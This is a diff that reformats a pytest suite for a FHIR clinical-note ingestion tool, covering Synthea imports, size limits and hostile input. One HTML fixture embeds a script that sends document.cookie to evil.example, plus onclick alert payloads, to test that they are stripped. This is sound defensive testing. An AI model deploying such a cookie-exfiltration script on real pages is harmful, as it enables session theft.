@@ -34,29 +34,46 @@ def b64(text: str, encoding: str = "utf-8") -> str:
 
 def patient_resource(pid="pat-1", mrn="MRN-100", family="Okafor", given=("Ada",), birth="1950-02-03", gender="female"):
     return {
-        "resourceType": "Patient", "id": pid,
+        "resourceType": "Patient",
+        "id": pid,
         "identifier": [
             {"system": "urn:example:ssn", "value": "999-00-1111"},
-            {"type": {"coding": [{"system": "http://terminology.hl7.org/CodeSystem/v2-0203", "code": "MR"}]},
-             "system": "urn:example:mrn", "value": mrn},
+            {
+                "type": {"coding": [{"system": "http://terminology.hl7.org/CodeSystem/v2-0203", "code": "MR"}]},
+                "system": "urn:example:mrn",
+                "value": mrn,
+            },
         ],
         "name": [{"use": "official", "family": family, "given": list(given)}],
-        "birthDate": birth, "gender": gender,
+        "birthDate": birth,
+        "gender": gender,
     }
 
 
-def document_resource(did="doc-1", text="Chest pain resolved. Troponin negative x2.", *, subject="Patient/pat-1",
-                      code="11506-3", display="Progress note", content_type="text/plain; charset=utf-8",
-                      data: str | None = None, url: str | None = None, date="2026-11-19T08:00:00Z"):
+def document_resource(
+    did="doc-1",
+    text="Chest pain resolved. Troponin negative x2.",
+    *,
+    subject="Patient/pat-1",
+    code="11506-3",
+    display="Progress note",
+    content_type="text/plain; charset=utf-8",
+    data: str | None = None,
+    url: str | None = None,
+    date="2026-11-19T08:00:00Z",
+):
     attachment = {"contentType": content_type}
     if url:
         attachment["url"] = url
     else:
         attachment["data"] = data if data is not None else b64(text)
     resource = {
-        "resourceType": "DocumentReference", "id": did, "status": "current",
+        "resourceType": "DocumentReference",
+        "id": did,
+        "status": "current",
         "type": {"coding": [{"system": "http://loinc.org", "code": code, "display": display}]},
-        "date": date, "author": [{"display": "Dr. Ines Moreau"}],
+        "date": date,
+        "author": [{"display": "Dr. Ines Moreau"}],
         "content": [{"attachment": attachment}],
     }
     if subject is not None:
@@ -84,6 +101,7 @@ def ingest_bundle(data: dict):
 
 # --- Synthea ----------------------------------------------------------------------------------
 
+
 @pytest.fixture
 def synthea_export(tmp_path):
     """A small bulk export: all 13 patients, the first 6 notes, 3 encounters (ignored)."""
@@ -92,7 +110,8 @@ def synthea_export(tmp_path):
     folder.mkdir()
     (folder / "Patient.000.ndjson").write_bytes(b"".join(head_lines(source / "Patient.000.ndjson", 13)))
     (folder / "DocumentReference.000.ndjson").write_bytes(
-        b"".join(head_lines(source / "DocumentReference.000.ndjson", 6)))
+        b"".join(head_lines(source / "DocumentReference.000.ndjson", 6))
+    )
     (folder / "Encounter.000.ndjson").write_bytes(b"".join(head_lines(source / "Encounter.000.ndjson", 3)))
     return folder
 
@@ -105,7 +124,11 @@ def test_it_ingests_a_synthea_bulk_export(db, synthea_export, capsys):
     assert Patient.objects.count() == 13
     patient = Patient.objects.get(source_id=SYNTHEA_PATIENT)
     assert (patient.mrn, patient.family_name, str(patient.birth_date), patient.sex) == (
-        SYNTHEA_PATIENT, "Medhurst46", "1927-05-21", "female")
+        SYNTHEA_PATIENT,
+        "Medhurst46",
+        "1927-05-21",
+        "female",
+    )
     note = Note.objects.get(source_id="00212c89-d070-985e-b695-b5f12fffd23e")
     assert note.patient == patient
     assert note.note_type == NoteType.HISTORY_PHYSICAL
@@ -164,11 +187,16 @@ def test_a_synthea_bundle_creates_its_patient(db, capsys):
     call_command("ingest_notes", str(path), verbosity=0)
     patient = Patient.objects.get()
     assert (patient.mrn, patient.family_name, patient.given_name, patient.sex) == (
-        "e925b0f3-8006-43f6-aa31-94bd215e55e7", "Koepp", "Abdul", "male")
+        "e925b0f3-8006-43f6-aa31-94bd215e55e7",
+        "Koepp",
+        "Abdul",
+        "male",
+    )
     assert "Observation 94" in capsys.readouterr().out
 
 
 # --- hostile and broken input -------------------------------------------------------------------
+
 
 def test_a_bundle_of_the_wrong_resource_type_is_refused():
     parsed = fhir_json_parse(json.dumps(patient_resource()).encode(), source="t", bundle_only=True)
@@ -199,17 +227,19 @@ def test_an_invalid_resource_is_named_without_its_values():
     doc = document_resource()
     doc["date"] = "Ada Okafor was seen"  # not a date; and a name must not be echoed
     parsed = fhir_bundle_parse(bundle(patient_resource(), doc), source="t")
-    (index, message), = parsed.problems
+    ((index, message),) = parsed.problems
     assert index == 1 and message.startswith("invalid DocumentReference: date:")
     assert "Okafor" not in message
 
 
 def test_a_50_mb_attachment_is_refused_before_parsing():
     huge = json.dumps(bundle(patient_resource(), document_resource(data="A" * (50 * 1024 * 1024)))).encode()
-    with mock.patch("clinsum.charts.fhir._loads", side_effect=AssertionError("parsed")), \
-         mock.patch("clinsum.charts.fhir._validate", side_effect=AssertionError("validated")):
+    with (
+        mock.patch("clinsum.charts.fhir._loads", side_effect=AssertionError("parsed")),
+        mock.patch("clinsum.charts.fhir._validate", side_effect=AssertionError("validated")),
+    ):
         parsed = fhir_json_parse(huge, source="t")
-    (where, message), = parsed.problems
+    ((where, message),) = parsed.problems
     assert where is None and message.startswith("document has 52,4") and "the limit is 20,971,520" in message
 
 
@@ -230,11 +260,14 @@ def test_an_attachment_over_the_note_limit_is_refused(db, settings):
 
 
 def test_script_tags_in_html_are_stripped_not_stored(db):
-    markup = ("<html><head><title>x</title><style>p {color: red}</style></head><body>"
-              "<h1>Progress</h1><p>BP 128/76 &amp; HR 72.</p><script>fetch('https://evil.example/'+document.cookie)"
-              "</script><p onclick=\"alert(1)\">Plan: continue <b>metoprolol</b>.</p><script>alert(2)")
-    parsed, result = ingest_bundle(bundle(patient_resource(), document_resource(
-        data=b64(markup), content_type="text/html; charset=utf-8")))
+    markup = (
+        "<html><head><title>x</title><style>p {color: red}</style></head><body>"
+        "<h1>Progress</h1><p>BP 128/76 &amp; HR 72.</p><script>fetch('https://evil.example/'+document.cookie)"
+        '</script><p onclick="alert(1)">Plan: continue <b>metoprolol</b>.</p><script>alert(2)'
+    )
+    parsed, result = ingest_bundle(
+        bundle(patient_resource(), document_resource(data=b64(markup), content_type="text/html; charset=utf-8"))
+    )
     note = Note.objects.get()
     assert note.text == "Progress\n\nBP 128/76 & HR 72.\n\nPlan: continue metoprolol."
     assert "<" not in note.text and "alert" not in note.text and "evil" not in note.text
@@ -263,15 +296,17 @@ def test_an_attachment_url_outside_the_bundle_is_not_fetched():
 
 def test_a_subject_by_urn_uuid_resolves_in_the_bundle(db):
     urn = "urn:uuid:0c3f5e2a-1111-4222-8333-444455556666"
-    data = bundle(patient_resource(pid="p-x"), document_resource(subject=urn), kind="collection",
-                  full_urls={"p-x": urn})
+    data = bundle(
+        patient_resource(pid="p-x"), document_resource(subject=urn), kind="collection", full_urls={"p-x": urn}
+    )
     ingest_bundle(data)
     assert Note.objects.get().patient.mrn == "MRN-100"
 
 
 def test_a_searchset_bundle_is_read(db):
-    data = bundle(patient_resource(), document_resource(), {"resourceType": "OperationOutcome", "issue": []},
-                  kind="searchset")
+    data = bundle(
+        patient_resource(), document_resource(), {"resourceType": "OperationOutcome", "issue": []}, kind="searchset"
+    )
     parsed, result = ingest_bundle(data)
     assert result.notes_new == 1 and parsed.ignored == {"OperationOutcome": 1}
 
@@ -312,7 +347,7 @@ def test_a_200000_character_note_is_accepted_and_chunked(db, monkeypatch):
     written = notes_index(note_ids=[note.pk], embedder=FakeEmbedder())
     assert written > 100
     for chunk in Chunk.objects.filter(note=note):
-        assert note.text[chunk.char_start:chunk.char_end] == chunk.text
+        assert note.text[chunk.char_start : chunk.char_end] == chunk.text
 
 
 def test_conflicting_demographics_are_rejected_with_the_reason(db):
@@ -342,6 +377,7 @@ def test_a_single_document_reference_file_reaches_a_stored_patient(db, tmp_path)
 
 
 # --- identity and amendments --------------------------------------------------------------------
+
 
 def test_an_amended_note_replaces_text_and_chunks_and_stales_the_summary(db, django_capture_on_commit_callbacks):
     ingest_bundle(bundle(patient_resource(), document_resource(text="Potassium 3.1, repleted.")))
